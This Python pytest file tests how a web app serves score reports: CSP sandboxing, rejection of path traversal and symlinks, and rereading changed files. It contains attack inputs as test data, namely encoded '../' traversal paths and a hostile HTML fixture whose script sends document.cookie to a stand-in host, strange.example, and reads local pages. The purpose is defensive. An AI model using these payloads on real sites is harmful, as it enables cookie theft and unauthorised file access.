"""Score reports: those that are ours, apart from the server, and nothing beside them."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.report.made_up import full, small
from tests.web.memory.house import opened
from tests.web.serving import Visitor, served
from tm.report.scores import score_report
from tm.scoring.record import write_record
from tm.web.settings import Settings


def place(folder: Path) -> None:
    (folder / "page.html").write_text(score_report(small(), title="Report <one>"), encoding="utf-8")
    write_record(folder / "run 1.json", full(), made="2026-11-20T10:00:00Z")
    write_record(folder / "run2.json.gz", small(), made="2026-11-21T10:00:00Z")
    (folder / "bad.json").write_text('{"format": "ushtil-score", "version": 1}')
    (folder / "other.json").write_text("{}")
    (folder / "stranger.html").write_text("<script>alert(1)</script>")


def test_reports_are_listed_with_what_is_best(tmp_path: Path) -> None:
    with opened(tmp_path) as house:
        assert "no score reports here yet" in house.get("/scores")
        place(tmp_path / "scores")
        page = house.get("/scores")
        assert "Report &lt;one&gt;" in page and "20 Nov 2026, 10:00" in page and "careful" in page
        assert "has no references" in page
        assert "other.json" not in page and "stranger" not in page


def test_a_kept_run_with_all_there_is_becomes_its_page(tmp_path: Path) -> None:
    with opened(tmp_path) as house:
        place(tmp_path / "scores")
        made = score_report(full(), title="Scores on made-up.tmx")
        assert house.get("/scores/0/run%201.json") == made


@pytest.mark.parametrize("name", ["page.html", "run%201.json", "run2.json.gz"])
def test_reports_have_no_part_in_the_server(tmp_path: Path, name: str) -> None:
    with opened(tmp_path) as house:
        place(tmp_path / "scores")
        policy = house.client.get(f"/scores/0/{name}").headers["content-security-policy"]
        assert (
            policy.startswith("sandbox allow-scripts; default-src 'none';")
            and "allow-same-origin" not in policy
        )


def test_scores_over_time_are_of_what_is_kept(tmp_path: Path) -> None:
    with opened(tmp_path) as house:
        assert house.client.get("/scores/history").status_code == 404
        place(tmp_path / "scores")
        page = house.get("/scores/history")
        assert "2 runs" in page and "bad.json" in page


def test_only_the_folders_that_were_named_can_be_looked_into(tmp_path: Path) -> None:
    with opened(tmp_path) as house:
        scores = tmp_path / "scores"
        place(scores)
        outside = tmp_path / "outside.json"
        write_record(outside, small(), made="2026-11-21T10:00:00Z")
        (scores / "out.json").symlink_to(outside)
        (scores / "in.json").symlink_to(scores / "run 1.json")
        (scores / "loop.json").symlink_to(scores / "loop.json")
        (scores / "folder.json").mkdir()
        assert "out.json" not in house.get("/scores") and "in.json" in house.get("/scores")
        assert house.client.get("/scores/0/in.json").status_code == 200
        for path in (
            *("0/out.json", "0/../outside.json", "0/..%2foutside.json", "0/%2e%2e%2foutside.json"),
            *("1/page.html", "-1/page.html", "0/stranger.html", "0/other.json", "0/folder.json"),
            *("0/loop.json", "0/bad.json/x", f"0/{str(outside).replace('/', '%2f')}"),
        ):
            assert house.client.get(f"/scores/{path}").status_code == 404, path
        assert house.client.get("/scores/0/bad.json").status_code == 400


def test_a_changed_file_is_read_again(tmp_path: Path) -> None:
    with opened(tmp_path) as house:
        file = tmp_path / "scores" / "page.html"
        for title in ("First", "Second one"):
            file.write_text(score_report(small(), title=title), encoding="utf-8")
            assert re.search(rf">{title}</a>", house.get("/scores"))


HOSTILE = """<!doctype html><title>Scores</title><style>/* The report of scores */</style>
<meta http-equiv="refresh" content="5;url=http://strange.example/refresh">
<p id="own">Give the token: <input id="token"></p>
<script>
document.title = "it ran";
fetch("/memory").then(answer => answer.text()).then(text => { document.title = "read " + text.length; });
new Image().src = "http://strange.example/?" + document.cookie;
location = "http://strange.example/?taken";
</script>
<img src="http://strange.example/picture" onerror="document.title = 'it ran'">
<link rel="stylesheet" href="http://strange.example/style.css"><iframe src="/memory"></iframe>
<form action="http://strange.example/" id="form"><button>Go</button></form>"""


def test_a_report_of_somebody_else_reads_nothing_and_tells_nobody(tmp_path: Path, chromium: Browser) -> None:
    (tmp_path / "hostile.html").write_text(HOSTILE, encoding="utf-8")
    (tmp_path / "own.html").write_text(score_report(full(), title="Own"), encoding="utf-8")
    settings = Settings(str(tmp_path / "tm.sqlite"), reviews=tmp_path / "r.sqlite", scores=(tmp_path,))
    with served(settings) as address:
        visitor = Visitor(chromium, address)
        try:
            page = visitor.open("/scores/0/hostile.html")
            page.get_by_role("button", name="Go").click()
            assert page.title() == "Scores" and page.url.endswith("hostile.html")
            assert visitor.strangers == []
            page = visitor.open("/scores/0/own.html")
            assert page.evaluate("document.documentElement.className") == "scripted"
        finally:
            visitor.close()
